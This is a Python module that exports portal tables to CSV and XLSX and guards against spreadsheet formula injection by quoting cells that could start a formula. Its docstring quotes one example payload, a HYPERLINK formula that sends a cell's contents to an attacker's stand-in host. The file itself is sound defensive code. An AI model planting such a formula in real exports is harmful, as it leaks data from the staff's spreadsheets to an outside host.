"""Tables that leave the portal as CSV or XLSX files: every export writes its cells through here.

Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return before one) as a
formula: an applicant who titles a project ``=HYPERLINK("https://evil.example/?leak="&C3,"…")``
would otherwise put a live formula in the staff's copy of the ranking. Every text cell is therefore
neutralised (OWASP's advice: a leading quote), and XLSX text cells are typed as strings, never as
formulas. Numbers (int, float, Decimal) the portal computed itself stay numbers, and dates stay
dates in XLSX (a CSV writes what the caller gives, ISO text for a date).
"""

import csv
import datetime
import io
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# What spreadsheets read as the start of a formula (full-width forms included: some spreadsheets
# fold them), and the control characters that may hide one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

NUMBER_TYPES = (int, float, Decimal)


def neutralise(text):
    """`text` as a cell that no spreadsheet evaluates: control characters that neither format can
    hold are dropped first (so none hides a formula), then a leading quote where the text could
    start a formula (the quote is shown, the text is kept whole)."""
    text = ILLEGAL_CHARACTERS_RE.sub("", "" if text is None else str(text))
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _is_number(value):
    return isinstance(value, NUMBER_TYPES) and not isinstance(value, bool)


def cell_text(value, *, decimal_separator="."):
    """A CSV cell: numbers written by the portal as numbers, everything else neutralised text."""
    if _is_number(value):
        return str(value).replace(".", decimal_separator)
    return neutralise(value)


def write_csv(header, rows, *, delimiter=",", decimal_separator="."):
    """The table as CSV text (header first). French spreadsheets expect `;` and decimal commas."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow([neutralise(title) for title in header])
    for row in rows:
        writer.writerow([cell_text(value, decimal_separator=decimal_separator) for value in row])
    return buffer.getvalue()


def write_xlsx(header, rows, *, sheet_title):
    """The table as an XLSX workbook (bytes): a bold, frozen header, then one row each. Text cells
    are neutralised and typed as strings."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = ILLEGAL_CHARACTERS_RE.sub("", str(sheet_title))[:31] or "Sheet"
    for column, title in enumerate(header, start=1):
        _set(sheet.cell(row=1, column=column), title).font = Font(bold=True)
    for row_number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            _set(sheet.cell(row=row_number, column=column), value)
    sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _set(cell, value):
    if _is_number(value):
        cell.value = value
    elif isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
        cell.value = value
        cell.number_format = "yyyy-mm-dd"
    else:
        cell.value = neutralise(value)
        cell.data_type = "s"  # never "f", whatever the text
    return cell
